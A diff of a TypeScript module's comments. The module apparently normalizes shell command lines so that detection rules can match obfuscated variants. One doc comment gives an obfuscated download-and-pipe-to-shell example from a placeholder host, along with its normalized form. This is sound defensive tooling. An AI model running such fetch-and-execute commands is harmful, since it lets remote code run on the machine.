@@ -1,11 +1,11 @@
 /**
- * A command line in one form: what differs only in quoting, variables, order of options, path of the program or encoding has the same. Rules
- * ask for it as the field `NormalCommandLine`; `shapeOfCommand` compares command lines with one another.
+ * The normal form of a command line: command lines that differ only in quoting, variables, order of options, path of the program or
+ * encoding have the same one. Rules use it as the field `NormalCommandLine`; `shapeOfCommand` compares command lines with one another.
  *
  *     sudo 'cu'rl -sL http://x/a|ba\sh      sudo curl -sL http://x/a ; curl -sL http://x/a | bash
  *
- * Programs are joined by ` | ` where one reads what the other prints, and by ` ; ` otherwise; programs that others start follow them. Bounded:
- * `MAX_NORMAL` characters. Tested in normal-form.test.ts.
+ * Programs are joined by ` | ` if one reads the output of the other, and by ` ; ` otherwise; a program started by another follows it.
+ * At most `MAX_NORMAL` characters. Tested in normal-form.test.ts.
  */
 import { interpret, interpretArguments } from './interpret.js';
 import type { Execution } from './interpret.js';
@@ -31,7 +31,7 @@ function written(executions: readonly Execution[]): string {
   return text;
 }
 
-/** Folders of the system: a program elsewhere keeps its path, which says more than its name. */
+/** System folders: a program elsewhere keeps its path, which says more than its name. */
 const systemPath = /^(?:\/usr(?:\/local)?)?\/s?bin\/(?=[^/]+$)/;
 
 function one({ argv, assignments, redirects, revealed }: Execution): string {
@@ -44,7 +44,7 @@ function one({ argv, assignments, redirects, revealed }: Execution): string {
   return parts.join(' ');
 }
 
-/** For comparison: options taken apart and sorted, programs without their paths. What is not an option keeps its order. */
+/** For comparison: combined options are split and sorted, and programs lose their paths. Operands keep their order. */
 export function shapeOfCommand(line: string): string {
   return interpret(line)
     .map((execution) =>
